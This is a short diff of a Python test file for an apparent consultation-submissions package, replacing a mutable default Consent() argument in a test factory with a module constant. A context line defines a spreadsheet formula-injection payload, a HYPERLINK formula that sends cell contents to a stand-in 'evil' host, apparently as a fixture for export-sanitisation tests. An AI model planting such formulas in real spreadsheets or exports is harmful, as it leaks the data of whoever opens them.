@@ -36,6 +36,7 @@ from consultkit.submissions import (
 
 PAYLOAD = '=HYPERLINK("http://evil/?"&A1,"x")'
 T0 = dt.datetime(2019, 7, 1, 10, tzinfo=dt.UTC)
+NO_CONSENT = Consent()
 
 
 def make(
@@ -44,7 +45,7 @@ def make(
     title: str = "A title",
     body: str | None = "Some text.",
     status: SubmissionStatus = SubmissionStatus.ACCEPTED,
-    consent: Consent = Consent(),
+    consent: Consent = NO_CONSENT,
     submitter: Submitter | None = None,
     erased: bool = False,
     organisation: str | None = "Org",
